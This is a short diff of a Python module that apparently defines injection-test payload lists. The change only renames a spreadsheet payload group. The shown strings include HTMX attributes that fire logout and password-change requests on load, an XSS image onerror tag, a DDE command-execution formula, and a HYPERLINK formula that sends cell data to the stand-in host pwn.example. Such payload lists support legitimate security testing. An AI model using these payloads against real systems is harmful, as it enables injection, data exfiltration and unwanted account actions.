@@ -201,7 +201,7 @@ HTMX = (
     '" hx-get="/logout" hx-trigger="load',
     "' hx-post='/account/password' hx-trigger='load",
 )
-SHEETS = (
+SPREADSHEETS = (
     "=1+1",
     '=HYPERLINK("http://pwn.example?x="&A1,"pwn")',
     "=cmd|' /C calc'!A0",
@@ -254,7 +254,7 @@ LETTERS = (
     "😀<img src=x onerror=alert(1)>😀",
 )
 _ALL = (
-    *(TAGS, HANDLERS, QUOTES, ADDRESSES, PICTURES, TEMPLATES, HTMX, SHEETS, BREAKS, MARKDOWN),
+    *(TAGS, HANDLERS, QUOTES, ADDRESSES, PICTURES, TEMPLATES, HTMX, SPREADSHEETS, BREAKS, MARKDOWN),
     LETTERS,
 )
 PAYLOADS = tuple(dict.fromkeys(payload for some in _ALL for payload in some))
